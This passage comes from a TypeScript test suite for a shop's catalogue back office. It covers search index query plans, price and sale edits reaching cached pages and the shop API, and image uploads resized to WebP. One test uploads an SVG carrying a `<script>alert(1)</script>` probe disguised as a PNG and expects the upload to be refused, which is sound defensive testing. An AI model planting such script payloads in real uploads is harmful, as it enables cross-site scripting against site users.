        await trx.executeQuery(CompiledQuery.raw('set local enable_indexscan = off'));
        const rows = await trx.executeQuery<{ 'QUERY PLAN': string }>(CompiledQuery.raw(`explain ${q.sql}`, [...q.parameters]));
        return rows.rows.map((r) => r['QUERY PLAN']).join('; ');
      });
      expect(plan).toMatch(/products_name_trgm/);
      expect(plan).toMatch(/products_brand_trgm/);
    } else {
      const rows = await server.db.kysely.executeQuery<{ detail: string }>(
        CompiledQuery.raw(`explain query plan ${q.sql}`, [...q.parameters]),
      );
      plan = rows.rows.map((r) => r.detail).join('; ');
      expect(plan).toMatch(/products_name_fts VIRTUAL TABLE/);
      expect(plan).not.toMatch(/SCAN products(?!_name_fts)/);
    }
  });
});

describe('catalogue back office: single edits reach shoppers at once', () => {
  it('a price and a sale edited at 7 a.m. show on the next request of the shop API and of a cached page', async () => {
    const m = await signedInAs(server.url, 'merchandiser');
    const name = unique('Sunrise Granola');
    const product = (
      await m.json<Product>(`${B}/products`, {
        method: 'POST',
        body: await productBody({ name, slug: name.toLowerCase().replace(/[^a-z0-9]+/g, '-') }),
      })
    ).body;
    expect((await m.json(`${B}/products/${product.id}/prices/1001`, { method: 'PUT', body: { price_cents: 611 } })).status).toBe(200);
    const shopper = await visitorWithStore(server.url, 1001);
    const page = `/search?s=${encodeURIComponent(name)}`;
    // Twice: the second answer comes from the page cache.
    for (let i = 0; i < 2; i++) expect((await shopper.page(page)).html).toContain('$6.11');
    const api = async () =>
      (
        await shopper.get<{ items: Array<{ id: number; price_cents: number; was_cents: number | null }> }>(
          `/api/shop/v1/products?store_id=1001&q=${encodeURIComponent(name)}`,
        )
      ).body.items[0];
    expect(await api()).toMatchObject({ price_cents: 611, was_cents: null });

    expect((await m.json(`${B}/products/${product.id}/prices/1001`, { method: 'PUT', body: { price_cents: 589 } })).status).toBe(200);
    expect((await shopper.page(page)).html).toContain('$5.89');
    expect(await api()).toMatchObject({ price_cents: 589 });

    const sale = await m.json(`${B}/promotions`, {
      method: 'POST',
      body: { product_id: product.id, sale_price_cents: 499, start_date: '2026-01-01', end_date: '2099-12-31', store_ids: [1001] },
    });
    expect(sale.status).toBe(201);
    const html = (await shopper.page(page)).html;
    expect(html).toContain('$4.99');
    expect(html).toContain('$5.89');
    expect(await api()).toMatchObject({ price_cents: 499, was_cents: 589 });
  });
});

describe('catalogue back office: images', () => {
  it('resizes an uploaded image to WebP sizes served with their widths, and refuses SVG and non-images', async () => {
    const m = await signedInAs(server.url, 'merchandiser');
    const png = await sharp({ create: { width: 800, height: 600, channels: 3, background: { r: 240, g: 200, b: 40 } } })
      .png()
      .toBuffer();
    const upload = async (body: Buffer, filename: string, type: string) => {
      const form = new FormData();
      form.append('file', new Blob([new Uint8Array(body)], { type }), filename);
      const res = await m.raw(`${B}/images`, { method: 'POST', body: form });
      return {
        status: res.status,
        body: (await res.json()) as { image: { key: string; width: number; height: number }; srcset: string } & ErrorBody,
      };
    };
    const ok = await upload(png, 'banana.png', 'image/png');
    expect(ok.status).toBe(201);
    expect(ok.body.image).toMatchObject({ width: 800, height: 600 });
    const key = ok.body.image.key;
    expect(ok.body.srcset).toBe(
      `/media/catalogue/${key}-160.webp 160w, /media/catalogue/${key}-320.webp 320w, /media/catalogue/${key}-640.webp 640w`,
    );
    const served = await new Client(server.url).raw(`/media/catalogue/${key}-320.webp`);
    expect(served.status).toBe(200);
    expect(served.headers.get('content-type')).toBe('image/webp');
    const meta = await sharp(Buffer.from(await served.arrayBuffer())).metadata();
    expect([meta.format, meta.width, meta.height]).toEqual(['webp', 320, 240]);
    expect((await new Client(server.url).raw(`/media/catalogue/${key}-1200.webp`)).status).toBe(404);

    const svg = await upload(Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'), 'x.png', 'image/png');
    expect(svg.status).toBe(400);
    expect(svg.body.message).toMatch(/SVG/);
    const text = await upload(Buffer.from('just some text, not an image'), 'x.jpg', 'image/jpeg');
    expect(text.status).toBe(400);

    // The product keeps {key, alt, width, height}; an unknown key is refused.
    const product = await m.json<Product>(`${B}/products`, {
      method: 'POST',
      body: await productBody({ images: [{ key, alt: 'Oat milk carton', width: 800, height: 600 }] }),
    });
    expect(product.status).toBe(201);
    expect(product.body.images).toEqual([{ key, alt: 'Oat milk carton', width: 800, height: 600 }]);
    // A recipe keeps it too, and its published page serves it through its sizes.
    const recipeSlug = unique('banana-bread');
    const recipe = await m.json(`${B}/recipes`, {
      method: 'POST',
      body: {
        title: 'Banana bread',
        slug: recipeSlug,
        prep_minutes: 15,
        cook_minutes: 60,
        serves: 8,
        ingredients: [{ quantity: '3', name: 'ripe bananas', product_id: null }],
        steps: ['Mash the bananas.', 'Bake.'],
        images: [{ key, alt: 'A sliced loaf', width: 800, height: 600 }],
        status: 'publish',
      },
    });
    expect(recipe.status).toBe(201);
    const page = await new Client(server.url).page(`/recipes/${recipeSlug}`);
    expect(page.status).toBe(200);
    expect(page.html).toContain(`/media/catalogue/${key}-320.webp 320w`);
    expect(page.html).toContain('alt="A sliced loaf"');
    const unknown = await m.json<ErrorBody>(`${B}/products`, {
      method: 'POST',
      body: await productBody({ images: [{ key: 'abcdefgh-123456', alt: '', width: 10, height: 10 }] }),
    });
    expect(unknown.status).toBe(400);
    expect(unknown.body.data.params?.['images.0.key']).toBeDefined();
  });
});
